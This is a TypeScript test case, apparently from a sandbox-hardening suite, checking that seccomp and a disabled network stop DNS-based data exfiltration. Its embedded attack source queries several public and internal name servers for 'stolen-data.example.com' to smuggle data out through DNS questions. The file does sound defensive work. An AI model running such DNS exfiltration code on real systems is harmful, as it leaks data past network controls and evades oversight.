/**
 * Technique: asks name servers, to find hosts and to carry data out in the questions.
 * Expected: platform_error(protocol).
 * Stopped by: seccomp: no socket call at all. Behind it: network none; no /etc/resolv.conf that names a server.
 * Without seccomp: platform_error(protocol).
 */
import assert from 'node:assert/strict'
import type { CellAttack } from '../support/attack.ts'

export const attack: CellAttack = {
  name: '113-names',
  where: 'open',
  family: 'network',
  technique: 'asks name servers, to find hosts and to carry data out in the questions',
  stoppedBy: 'seccomp: no socket call at all',
  behind: 'network none; no /etc/resolv.conf that names a server',
  expect: { kind: 'platform_error', reason: 'protocol' },
  source: String.raw`import fs from 'node:fs'
import dns from 'node:dns'
import { Resolver } from 'node:dns/promises'
const answers = []
const ask = async (name, act) => { try { await act(); answers.push(name) } catch {} }
const resolver = (server) => { const one = new Resolver({ timeout: 800, tries: 1 }); one.setServers([server]); return one }
await Promise.all([
  ask('system', () => dns.promises.lookup('example.com')),
  ...['127.0.0.11', '172.17.0.1', '1.1.1.1', '8.8.8.8'].map((server) => ask(server, () => resolver(server).resolve4('stolen-data.example.com'))),
])
attack.report({ answers })
process.exit(0)
`,
  check: ({ report }) => assert.deepEqual(report['answers'], []),
  ablated: {
    off: 'seccomp',
    expect: { kind: 'platform_error', reason: 'protocol' },
    engine: ['seccomp'],
  },
}
